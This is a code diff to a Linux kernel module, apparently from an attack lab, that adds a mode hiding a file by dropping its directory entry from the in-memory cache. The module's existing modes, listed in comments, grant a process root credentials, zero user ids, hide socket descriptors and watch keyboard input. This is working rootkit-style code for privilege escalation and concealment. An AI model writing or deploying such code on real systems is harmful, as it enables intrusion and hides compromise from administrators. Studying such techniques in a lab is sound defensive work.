@@ -14,6 +14,7 @@
 // kind=keys      is told of keys
 // kind=creds     pid: gives the process the credentials of process 1
 // kind=raise     pid: writes 0 over the user ids of the process
+// kind=drop      text: takes the file of that path out of its folder, where it is in memory only
 // kind=port      pid: takes the process's first descriptor of a socket away, the socket stays open
 //
 // Built without kbuild, so that any compiler will do: lab/src/module.rs gives the flags and the include folders.
@@ -23,6 +24,7 @@
 #include <linux/vermagic.h>
 #include <linux/version.h>
 #include <linux/cred.h>
+#include <linux/dcache.h>
 #include <linux/delay.h>
 #include <linux/fdtable.h>
 #include <linux/fs.h>
@@ -30,6 +32,7 @@
 #include <linux/keyboard.h>
 #include <linux/kprobes.h>
 #include <linux/kthread.h>
+#include <linux/namei.h>
 #include <linux/netfilter.h>
 #include <linux/netfilter_ipv4.h>
 #include <linux/pid.h>
@@ -264,6 +267,23 @@ static void show_descriptor(void)
 	WRITE_ONCE(*slot, hidden);
 }
 
+static struct path dropped;
+
+static int drop_name(void)
+{
+	int result = kern_path(text, 0, &dropped);
+
+	if (!result)
+		d_drop(dropped.dentry);
+	return result;
+}
+
+static void return_name(void)
+{
+	d_rehash(dropped.dentry);
+	path_put(&dropped);
+}
+
 static int __init attack_init(void)
 {
 	unsigned char byte;
@@ -296,6 +316,8 @@ static int __init attack_init(void)
 		return give_credentials(pid, false);
 	if (is("raise"))
 		return raise(pid, false);
+	if (is("drop"))
+		return drop_name();
 	if (is("port"))
 		return hide_descriptor(pid);
 	return -EINVAL;
@@ -320,6 +342,8 @@ static void __exit attack_exit(void)
 		give_credentials(pid, true);
 	else if (is("raise"))
 		raise(pid, true);
+	else if (is("drop"))
+		return_name();
 	else if (is("port"))
 		show_descriptor();
 }
